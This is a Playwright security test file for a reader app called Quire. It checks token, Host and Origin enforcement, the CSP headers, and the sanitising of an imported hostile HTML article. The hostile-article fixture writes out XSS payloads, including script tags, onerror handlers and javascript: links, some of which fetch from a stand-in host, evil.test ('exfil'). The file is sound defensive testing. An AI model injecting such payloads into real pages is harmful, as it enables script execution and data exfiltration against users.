/**
 * Browser mode's locks (token, Host, Origin, CSP) over real HTTP, and a hostile article opened in
 * the reader: nothing runs, nothing loads from outside the app, no dialog opens.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, expect, FIXTURES } from './fixtures.js';
import { apiPost, rawRequest } from './http.js';

const EXPECTED_CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data:; connect-src 'self'; " +
  "object-src 'none'; base-uri 'none'; frame-src 'none'; form-action 'none'; frame-ancestors 'none'";

test.describe('browser mode refuses requests without the token', () => {
  test('the page, its scripts and the API all need the token', async ({ server }) => {
    const page = await rawRequest(server.origin, `/?token=${server.token}`);
    expect(page.status).toBe(200);
    const script = /src="\.\/(assets\/[^"]+\.js)"/.exec(page.body)?.[1];
    expect(script, 'index.html references a script file').toBeTruthy();

    for (const path of ['/', '/index.html', `/${script}`, '/no-such-file.js']) {
      const response = await rawRequest(server.origin, path);
      expect(response.status, `${path} without a token`).toBe(401);
      expect(response.body).not.toContain('<script');
    }
    const noToken = await apiPost(server.origin, 'library.info', {});
    expect(noToken.status).toBe(401);
    expect(noToken.body).not.toContain(server.token);
  });

  test('a wrong or truncated token is refused everywhere', async ({ server }) => {
    const wrong = `${server.token.slice(0, -2)}xx`;
    for (const token of [wrong, server.token.slice(0, 10), '', `${server.token}a`]) {
      expect((await rawRequest(server.origin, `/?token=${encodeURIComponent(token)}`)).status).toBe(401);
      expect((await apiPost(server.origin, 'library.info', {}, { 'X-Quire-Token': token })).status).toBe(401);
      expect((await rawRequest(server.origin, '/', { headers: { Cookie: `quire_token_${server.port}=${token}` } })).status).toBe(401);
    }
  });

  test('the token works as query, header, or the cookie the page receives', async ({ server }) => {
    const first = await rawRequest(server.origin, `/?token=${server.token}`);
    const cookie = String(first.headers['set-cookie'] ?? '');
    expect(cookie).toContain(`quire_token_${server.port}=${server.token}`);
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Strict/i);
    const withCookie = await rawRequest(server.origin, '/', { headers: { Cookie: `quire_token_${server.port}=${server.token}` } });
    expect(withCookie.status).toBe(200);
    const api = await apiPost(server.origin, 'library.info', {}, { 'X-Quire-Token': server.token });
    expect(api.status).toBe(200);
    expect(JSON.parse(api.body)).toMatchObject({ ok: true, value: { articles: 0 } });
  });
});

test.describe('browser mode checks Host and Origin', () => {
  test('a request addressed to another host name is refused (DNS rebinding)', async ({ server }) => {
    for (const host of [`evil.test:${server.port}`, 'evil.test', `127.0.0.1:${server.port + 1}`, `127.0.0.1.evil.test:${server.port}`]) {
      const page = await rawRequest(server.origin, `/?token=${server.token}`, { headers: { Host: host } });
      expect(page.status, `Host: ${host}`).toBe(403);
      const api = await apiPost(server.origin, 'library.info', {}, { Host: host, 'X-Quire-Token': server.token });
      expect(api.status, `Host: ${host}`).toBe(403);
    }
    const localhost = await apiPost(server.origin, 'library.info', {}, { Host: `localhost:${server.port}`, 'X-Quire-Token': server.token });
    expect(localhost.status).toBe(200);
  });

  test('a call from another origin is refused even with the token', async ({ server }) => {
    for (const origin of ['http://evil.test', `http://evil.test:${server.port}`, 'null', `https://127.0.0.1:${server.port}`, 'file://']) {
      const api = await apiPost(server.origin, 'library.info', {}, { Origin: origin, 'X-Quire-Token': server.token });
      expect(api.status, `Origin: ${origin}`).toBe(403);
    }
    const crossSite = await apiPost(server.origin, 'library.info', {}, { 'Sec-Fetch-Site': 'cross-site', 'X-Quire-Token': server.token });
    expect(crossSite.status).toBe(403);
    const same = await apiPost(server.origin, 'library.info', {}, { Origin: server.origin, 'X-Quire-Token': server.token });
    expect(same.status).toBe(200);
  });

  test('API calls must be JSON POSTs (no form posts, no GET)', async ({ server }) => {
    const form = await rawRequest(server.origin, '/api/library.info', {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Quire-Token': server.token },
      body: 'a=1',
    });
    expect(form.status).toBe(415);
    const get = await rawRequest(server.origin, '/api/library.info', { headers: { 'X-Quire-Token': server.token } });
    expect(get.status).toBe(405);
  });

  test('the server listens on 127.0.0.1 only', async ({ server }) => {
    expect(new URL(server.url).hostname).toBe('127.0.0.1');
    const os = await import('node:os');
    const external = Object.values(os.networkInterfaces())
      .flat()
      .find((i) => i && i.family === 'IPv4' && !i.internal);
    test.skip(!external, 'this machine has no non-loopback IPv4 address to try');
    await expect(rawRequest(`http://${external!.address}:${server.port}`, `/?token=${server.token}`)).rejects.toThrow();
  });
});

test('every response carries the app CSP and hardening headers', async ({ server }) => {
  const responses = [
    await rawRequest(server.origin, `/?token=${server.token}`),
    await rawRequest(server.origin, '/'),
    await apiPost(server.origin, 'library.info', {}, { 'X-Quire-Token': server.token }),
    await apiPost(server.origin, 'articles.get', { id: 'nope' }, { 'X-Quire-Token': server.token }),
  ];
  for (const response of responses) {
    expect(response.headers['content-security-policy']).toBe(EXPECTED_CSP);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['referrer-policy']).toBe('no-referrer');
    expect(response.headers['x-frame-options']).toBe('DENY');
  }
});

test('the page keeps the token out of the address bar and still works after a reload', async ({ page, apiCall }) => {
  await expect(page).toHaveTitle(/Quire/);
  expect(page.url()).not.toContain('token=');
  await page.reload();
  await expect(page).toHaveTitle(/Quire/);
  expect((await apiCall('library.info', {})).articles).toBe(0);
});

/** Builds a hostile news page from DOMPurify's vectors plus canaries that would prove code ran or the network was used. */
export function hostileArticleHtml(): string {
  const { vectors } = JSON.parse(readFileSync(join(FIXTURES, 'xss-vectors.json'), 'utf8')) as {
    vectors: { title: string; payload: string }[];
  };
  // alert()/confirm() in the vectors would open dialogs; make them set the canary too.
  const canaried = vectors.map((v) => v.payload.replace(/\balert\s*\(/g, 'window.__pwned=1;alert('));
  const paragraph = (n: number): string =>
    `<p>Paragraph ${n} of the hostile article. The delegations met in Muscat to discuss maritime security, ` +
    `trade corridors and the exchange of detainees, according to officials familiar with the talks.</p>`;
  return `<!doctype html>
<html><head>
<title>Hostile article for the security test</title>
<meta property="og:title" content="Hostile article for the security test">
<base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<link rel="stylesheet" href="http://evil.test/remote.css">
<link rel="preload" href="http://evil.test/font.woff2" as="font">
<style>@import url("http://evil.test/import.css"); body { background: url("http://evil.test/bg.png"); }</style>
<script>window.__pwned = 1; fetch('http://evil.test/exfil');</script>
<script src="http://evil.test/remote.js"></script>
</head>
<body onload="window.__pwned=1">
<article>
<h1>Hostile article for the security test</h1>
${paragraph(1)}
<p>A <a href="javascript:window.__pwned=1">javascript link</a>, an <a href="http://evil.test/" onclick="window.__pwned=1">external link</a>,
an image <img src="http://evil.test/pixel.png" onerror="window.__pwned=1" alt="remote pixel">
and <span style="background-image:url(http://evil.test/span.png)" onmouseover="window.__pwned=1">a styled span</span>.</p>
<iframe src="http://evil.test/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<object data="http://evil.test/object.swf"></object><embed src="http://evil.test/embed.swf">
<form action="http://evil.test/form"><input name="q" autofocus onfocus="window.__pwned=1"><button>Send</button></form>
<svg onload="window.__pwned=1"><image href="http://evil.test/svg.png"/></svg>
<video src="http://evil.test/video.mp4" poster="http://evil.test/poster.png"></video>
<audio src="http://evil.test/audio.mp3" autoplay></audio>
${paragraph(2)}
${canaried.map((payload, i) => `<div class="vector-${i}">${payload}</div>`).join('\n')}
${paragraph(3)}
<img src="x" onerror="fetch('http://evil.test/onerror')">
<p>Closing paragraph: the talks will resume next month.</p>
</article>
</body></html>`;
}

test.describe('a hostile article', () => {
  test('imported and opened in the reader, it runs nothing, loads nothing from outside and opens no dialog', async ({
    page,
    apiCall,
    origin,
    outsideRequests,
    saveScreen,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    // CSP violations mean something hostile reached the page (even if the CSP then stopped it).
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`));
    });

    const html = hostileArticleHtml();
    const report = await apiCall('import.files', {
      files: [{ name: 'hostile.html', dataBase64: Buffer.from(html).toString('base64'), mediaType: 'text/html' }],
    });
    expect(report.failed).toEqual([]);
    expect(report.imported).toHaveLength(1);
    const id = report.imported[0]!.id;

    // What was stored: no link that could run code or leave the app silently.
    const article = await apiCall('articles.get', { id });
    const urls: string[] = [];
    JSON.parse(article.bodyJson, (key, value: unknown) => {
      if ((key === 'url' || key === 'src' || key === 'href') && typeof value === 'string') urls.push(value);
      return value;
    });
    // (The payloads' markup may survive as visible TEXT, which is harmless; what matters is structure.)
    for (const url of urls) expect(url, 'stored link').toMatch(/^(https?:|mailto:|#)/i);
    const types = new Set<string>();
    JSON.parse(article.bodyJson, (key, value: unknown) => {
      if (key === 'type' && typeof value === 'string') types.add(value);
      return value;
    });
    for (const type of types) {
      expect(['root', 'paragraph', 'heading', 'quote', 'list', 'listitem', 'link', 'text', 'linebreak', 'tab', 'code', 'code-highlight', 'horizontalrule', 'table', 'tablerow', 'tablecell']).toContain(type);
    }

    await page.reload();
    await page.getByRole('button', { name: 'Hostile article for the security test' }).click();
    const text = page.getByRole('textbox', { name: 'Article text' });
    await expect(text).toContainText('Paragraph 1 of the hostile article');

    // Interact the way an analyst would: hover and click what was kept of links and styled text, scroll to the end.
    const links = text.getByRole('link');
    const linkCount = await links.count();
    for (let i = 0; i < Math.min(linkCount, 3); i++) {
      await links.nth(i).hover();
      await links.nth(i).click();
    }
    for (const name of ['javascript link', 'external link', 'a styled span']) {
      const target = text.getByText(name, { exact: false }).first();
      if ((await target.count()) === 0) continue;
      await target.hover();
      await target.click();
    }
    await text.press('End');
    await page.mouse.wheel(0, 20_000);
    await page.waitForTimeout(500);
    await saveScreen('hostile article in the reader');

    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    // The only dialog allowed is the app's own question before opening a link outside it (dismissed here).
    expect(dialogs.filter((d) => !/^confirm: Open this link/.test(d))).toEqual([]);
    if (linkCount > 0) expect(dialogs.length, 'clicking a link asks before leaving the app').toBeGreaterThan(0);
    expect(outsideRequests).toEqual([]);
    for (const url of requests) expect(url.startsWith(`${origin}/`) || url.startsWith('data:') || url.startsWith('blob:'), url).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);
    expect(page.url().startsWith(`${origin}/`)).toBe(true);
  });
});

test('links to outside the app ask first and never navigate; the app’s own downloads still work', async ({ page, origin, outsideRequests }) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await expect(page).toHaveTitle(/Quire/);
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'https://example.org/report';
    link.textContent = 'outside link';
    link.id = 'outside-link';
    document.body.append(link);
  });
  await page.locator('#outside-link').click();
  await page.locator('#outside-link').click({ button: 'middle' });
  await page.waitForTimeout(300);
  expect(dialogs.length).toBeGreaterThanOrEqual(1);
  expect(dialogs[0]).toMatch(/^confirm: Open this link in a new browser tab\?/);
  expect(dialogs[0]).toContain('https://example.org/report');
  expect(page.url().startsWith(`${origin}/`)).toBe(true);
  expect(outsideRequests).toEqual([]);

  const download = page.waitForEvent('download');
  await page.evaluate(() => {
    const url = URL.createObjectURL(new Blob(['hello'], { type: 'text/plain' }));
    const link = document.createElement('a');
    link.href = url;
    link.download = 'export.txt';
    document.body.append(link);
    link.click();
    link.remove();
  });
  expect((await download).suggestedFilename()).toBe('export.txt');
});
